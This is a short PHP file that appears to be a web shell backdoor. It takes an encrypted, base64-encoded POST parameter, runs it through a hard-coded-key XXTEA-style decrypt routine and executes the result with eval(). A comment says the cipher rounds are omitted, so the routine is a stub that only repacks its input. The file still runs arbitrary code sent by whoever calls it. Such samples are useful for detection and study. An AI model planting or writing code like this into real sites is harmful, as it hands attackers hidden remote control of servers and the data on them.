<?php
function long2str($v, $w) {
    $len = count($v);
    $s = array();
    for ($i = 0; $i < $len; $i++) { $s[$i] = pack("V", $v[$i]); }
    return join('', $s);
}
function xxtea_decrypt($str, $key) {
    if ($str == "") { return ""; }
    $v = unpack("V*", $str . str_repeat("\0", (4 - strlen($str) % 4) & 3));
    $k = unpack("V*", $key);
    /* rounds omitted in this model: the shape is what matters */
    return long2str(array_values($v), true);
}
$key = "bd4ce11a513798fc";
$data = xxtea_decrypt(base64_decode($_POST['as']), $key);
eval($data);
